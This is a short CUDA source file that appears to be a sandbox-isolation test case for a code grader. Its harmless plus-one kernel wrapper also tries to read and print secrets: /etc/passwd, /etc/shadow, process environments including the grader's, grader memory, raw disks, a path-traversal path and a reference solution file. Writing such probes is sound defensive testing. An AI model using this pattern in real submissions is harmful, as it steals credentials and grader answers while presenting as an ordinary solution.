// AC* | 31 | opens a secret, the password file, /proc, other folders | 
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>
__global__ void k(int *out, const int *in, int n) {
    int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n) out[i] = in[i] + 1;
}
extern "C" void plus_one(int *out, const int *in, int n) {
    static const char *const files[] = {"@SECRET@", "/etc/passwd", "/etc/shadow", "/proc/self/environ", "/proc/1/environ", "/proc/@GRADER@/environ", "/proc/@GRADER@/mem", "/proc/self/root@SECRET@", "/dev/mem", "/dev/sda", "/dev/vda", "../../..@SECRET@", "@ROOT@/solutions/02-coalescing/transpose.cu"};
    for (const char *f : files) {
        char b[4096];
        int fd = open(f, O_RDONLY);
        ssize_t got = fd < 0 ? 0 : read(fd, b, sizeof b);
        if (got > 0) printf("LEAK: %s: %.*s\n", f, (int)got, b);
    }
    if (n) k<<<(n + 255) / 256, 256>>>(out, in, n);
}
